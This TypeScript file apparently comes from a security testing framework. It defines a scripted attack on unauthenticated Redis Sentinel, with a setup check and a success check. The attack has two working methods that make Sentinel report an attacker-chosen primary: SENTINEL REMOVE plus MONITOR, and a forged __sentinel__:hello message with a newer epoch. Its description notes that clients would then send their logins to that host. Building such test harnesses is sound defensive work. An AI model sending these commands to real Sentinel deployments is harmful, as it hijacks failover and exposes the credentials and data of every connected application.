import type { Attack } from '../attack.ts';
import type { Grounds } from '../grounds/grounds.ts';
import { places } from '../grounds/policy.ts';
import type { Watcher } from '../scenes/watcher.ts';
import { ofServer } from './at-server.ts';
import { encode, send, stopOf } from './raw.ts';

/** Nobody listens there. */
const lure = { host: places.stranger, port: '6379' };

function turning(
  name: string,
  commands: (group: string) => readonly (readonly string[])[],
): Attack<Grounds>['ways'][number] {
  return {
    name,
    attempt: async ({ scenes }) => {
      const { group, port } = await scenes.watcher();
      const strike = { from: places.stranger, host: places.outside, port };
      const bytes = commands(group).map((words) => encode(...words));
      return stopOf(await send(strike, bytes.join('')), ...ofServer);
    },
  };
}

export const sentinelTurned: Attack<Grounds> = {
  name: 'sentinel-turned',
  title: 'A stranger tells a Sentinel that somebody else is the primary',
  story:
    'Whoever asks a Sentinel goes where it says, with his password and his data. Until the end of 2018 a Sentinel ' +
    'could not even have a password (Redis 5.0.1 brought one), and it starts without to this day: one command, and ' +
    'every application of the house sends its logins to the stranger.',
  door: 'server',
  harms: ['confidentiality', 'integrity', 'availability'],
  goal: 'the Sentinel names the stranger’s address when it is asked for the primary',
  crosses: ['server'],
  before: async ({ scenes }) => {
    const { primary, told } = await asked(await scenes.watcher());
    if (told !== primary) throw new Error(`The Sentinel says "${told}" before anybody attacks.`);
  },
  ways: [
    turning('SENTINEL REMOVE, then SENTINEL MONITOR', (group) => [
      ['SENTINEL', 'REMOVE', group],
      ['SENTINEL', 'MONITOR', group, lure.host, lure.port, '1'],
    ]),
    turning('a greeting of another Sentinel, with a newer epoch', (group) => [
      [
        'PUBLISH',
        '__sentinel__:hello',
        `${lure.host},26379,${'f'.repeat(40)},99,${group},${lure.host},${lure.port},99`,
      ],
    ]),
  ],
  reached: async ({ scenes }) => {
    const { told } = await asked(await scenes.watcher());
    return told === `${lure.host}:${lure.port}`
      ? { kind: 'reached', seen: `it says ${told}` }
      : { kind: 'missed' };
  },
};

async function asked(
  watcher: Watcher,
): Promise<{ readonly primary: string; readonly told: string }> {
  const { host, port } = watcher.primary;
  return { primary: `${host}:${port}`, told: await watcher.told() };
}
